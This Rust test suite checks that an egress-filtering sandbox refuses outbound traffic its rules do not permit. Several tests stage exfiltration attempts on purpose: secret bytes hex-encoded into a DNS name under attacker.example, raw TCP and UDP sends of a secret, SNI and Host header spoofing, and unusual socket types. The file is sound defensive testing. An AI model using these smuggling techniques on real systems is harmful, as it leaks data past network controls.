//! What one function may do, and every other way out: from Python, Node and a native binary.
use std::net::Ipv4Addr;

use dshield_tests::agent::{Agent, Egress, Function, Launch, Project};
use dshield_tests::nameserver;
use dshield_tests::requires::{require_root, requires};
use dshield_tests::scene::{SECRET, Scene, allowed, allowed_but};
use dshield_tests::standin::{NAME, Standin};
use dshield_tests::tripwire::Tripwire;
use serde_json::{Value, json};

#[test]
fn the_allowed_request_gets_its_answer_and_is_in_the_log() {
    let Some(scene) = Scene::start() else { return };
    for (number, function) in scene.functions().iter().enumerate() {
        let answer = scene.agent.call(function, &allowed());
        assert_eq!(answer["status"], 200, "{function}: {answer}");
        let body = answer["body"].as_str().unwrap_or_default();
        let message: Value = serde_json::from_str(body).unwrap_or_default();
        let text = format!("A text of 5 words that begins with: {SECRET}");
        assert_eq!(message["content"][0]["text"], text, "{function}: {answer}");
        let seen = scene.standin.seen();
        assert_eq!(seen.len(), number + 1, "{function}");
        assert_eq!((seen[number].method.as_str(), seen[number].path.as_str()), ("POST", "/v1/messages"));
        assert_eq!(seen[number].host.as_deref(), Some(NAME));

        let log = scene.agent.log_with("the request", |log| !log.requests(function).is_empty());
        assert_eq!(log.verify(), Ok(()));
        assert!(log.refused(function).is_empty(), "{log}");
        let [connect] = log.connects(function)[..] else { panic!("one connection:\n{log}") };
        assert_eq!((connect.host.as_str(), connect.port, connect.tls.as_str()), (NAME, 443, "inspect"));
        let [request] = log.requests(function)[..] else { panic!("one request:\n{log}") };
        assert_eq!(request.connection, connect.connection);
        assert_eq!((request.method.as_deref(), request.path.as_deref()), (Some("POST"), Some("/v1/messages")));
        assert_eq!(request.rule.as_deref(), Some(connect.rule.as_str()));
    }
    assert!(scene.tripwire.arrivals().is_empty());
}

#[test]
fn a_name_without_a_rule_has_no_address() {
    let Some(scene) = Scene::start() else { return };
    scene.refuses(&allowed_but(json!({"host": "attacker.example"})), "dns", "name_not_allowed");
    scene.refuses(&json!({"do": "resolve", "name": "www.anthropic.com"}), "dns", "name_not_allowed");
}

#[test]
fn a_name_that_carries_data_is_refused() {
    let Some(scene) = Scene::start() else { return };
    let data: String = SECRET.bytes().take(30).map(|byte| format!("{byte:02x}")).collect();
    let name = format!("{data}.attacker.example");
    scene.refuses(&json!({"do": "resolve", "name": name}), "dns", "name_not_allowed");
}

#[test]
fn a_name_below_an_allowed_name_is_refused() {
    let Some(scene) = Scene::start() else { return };
    scene.refuses(&json!({"do": "resolve", "name": format!("data.{NAME}")}), "dns", "name_not_allowed");
}

/// The agent's own resolver is a tripwire here: deciding comes before resolving.
#[test]
fn a_refused_name_causes_no_packet() {
    if !require_root() || !requires("unshare") {
        return;
    }
    // Every address below 127.0.0.0/8 is this machine; this one is taken by no name server.
    let address = Ipv4Addr::new(127, 91, 53, 1);
    let names = Tripwire::name_server(address);
    let rule = Egress::to("unpinned.example").methods(&["POST"]);
    let project = Project::new().with(&Function::probe("native").egress(&rule));
    let wrapper = nameserver::wrapper(address, project.folder());
    let agent = Agent::launch(&project, Launch { wrapper, ..Launch::default() }).unwrap_or_else(|e| panic!("{e}"));

    let refused = agent.call("native", &json!({"do": "resolve", "name": "attacker.example"}));
    assert_eq!(refused["failed"], "resolve");
    let method = json!({"host": "unpinned.example", "method": "GET"});
    let _ = agent.call("native", &allowed_but(method));
    assert!(names.arrivals().is_empty(), "{:?}", names.arrivals());

    // The tripwire works: an allowed request makes the agent ask it.
    let _ = agent.call("native", &allowed_but(json!({"host": "unpinned.example"})));
    assert!(!names.arrivals().is_empty(), "the agent does not use the resolver that this test watches");
}

#[test]
fn an_address_without_a_name_is_refused() {
    let Some(scene) = Scene::start() else { return };
    let to = scene.tripwire.tcp().to_string();
    scene.refuses(&json!({"do": "tcp", "address": to, "send": SECRET}), "connect", "address_not_allowed");
}

/// The proxy's promise is about names: a right name in SNI and Host does not help a wrong address.
#[test]
fn an_allowed_name_does_not_open_an_arbitrary_address() {
    let Some(scene) = Scene::start() else { return };
    let event = allowed_but(json!({"address": scene.tripwire.tcp().to_string()}));
    scene.refuses(&event, "connect", "address_not_allowed");
}

#[test]
fn another_port_of_an_allowed_host_is_refused() {
    let Some(scene) = Scene::start() else { return };
    scene.refuses(&allowed_but(json!({"port": 8443})), "connect", "port_not_allowed");
}

#[test]
fn udp_is_refused_by_the_kernel() {
    let Some(scene) = Scene::start() else { return };
    let to = scene.tripwire.udp().to_string();
    scene.refuses(&json!({"do": "udp", "address": to, "send": SECRET}), "kernel", "udp_port");
}

#[test]
fn an_sni_other_than_the_name_that_was_resolved_is_refused() {
    let Some(scene) = Scene::start() else { return };
    scene.refuses(&allowed_but(json!({"sni": "attacker.example"})), "tls", "sni_mismatch");
}

#[test]
fn another_host_field_in_an_allowed_connection_gets_421() {
    let Some(scene) = Scene::start() else { return };
    scene.answers(&allowed_but(json!({"host_header": "attacker.example"})), 421, "http", "authority_mismatch");
}

#[test]
fn a_method_outside_the_rule_gets_403() {
    let Some(scene) = Scene::start() else { return };
    scene.answers(&allowed_but(json!({"method": "PUT"})), 403, "http", "method_not_allowed");
}

#[test]
fn a_path_outside_the_rule_gets_403() {
    let Some(scene) = Scene::start() else { return };
    scene.answers(&allowed_but(json!({"path": "/v1/files"})), 403, "http", "path_not_allowed");
}

#[test]
fn only_tcp_and_udp_sockets_can_be_made() {
    let Some(scene) = Scene::start() else { return };
    if !scene.functions().contains(&"python") {
        return;
    }
    // Family, type, protocol: see socket(2) and <linux/in.h>.
    let sockets = [
        ("MPTCP", 2, 1, 262),
        ("UDP-Lite", 2, 2, 136),
        ("SCTP", 2, 1, 132),
        ("ping", 2, 2, 1),
        ("raw", 2, 3, 1),
        ("raw over IPv6", 10, 3, 58),
        ("packet", 17, 3, 0x0300),
        ("netlink (generic)", 16, 3, 16),
        ("vsock", 40, 1, 0),
    ];
    for (name, family, kind, protocol) in sockets {
        let event = json!({"do": "socket", "family": family, "type": kind, "protocol": protocol});
        let answer = scene.agent.call("python", &event);
        assert_eq!(answer["failed"], "socket", "a {name} socket could be made: {answer}");
    }
    scene.expect_silence();
}

#[test]
fn the_control_api_is_out_of_reach_of_a_function() {
    let Some(scene) = Scene::start() else { return };
    let api = scene.agent.address();
    let request = format!("GET /v1/log/entries HTTP/1.1\r\nhost: {api}\r\n\r\n");
    for function in scene.functions() {
        let answer = scene.agent.call(function, &json!({"do": "tcp", "address": api.to_string(), "send": request}));
        assert!(answer["failed"].is_string(), "{function}: {answer}");
    }
}

#[test]
fn a_function_without_rules_reaches_nothing() {
    if !require_root() {
        return;
    }
    let standin = Standin::start();
    let with_rule = Function::probe("open").egress(&Egress::to_standin(&standin));
    let project = Project::new().with(&with_rule).with(&Function::probe("closed"));
    let agent = Agent::start(&project);
    assert_eq!(agent.call("closed", &allowed())["failed"], "resolve");
    assert!(standin.seen().is_empty());
    assert_eq!(agent.call("open", &allowed())["status"], 200, "the neighbour's rule is its own");
    let log = agent.log_with("the refusal", |log| !log.refused("closed").is_empty());
    assert!(log.refused("open").is_empty(), "{log}");
}
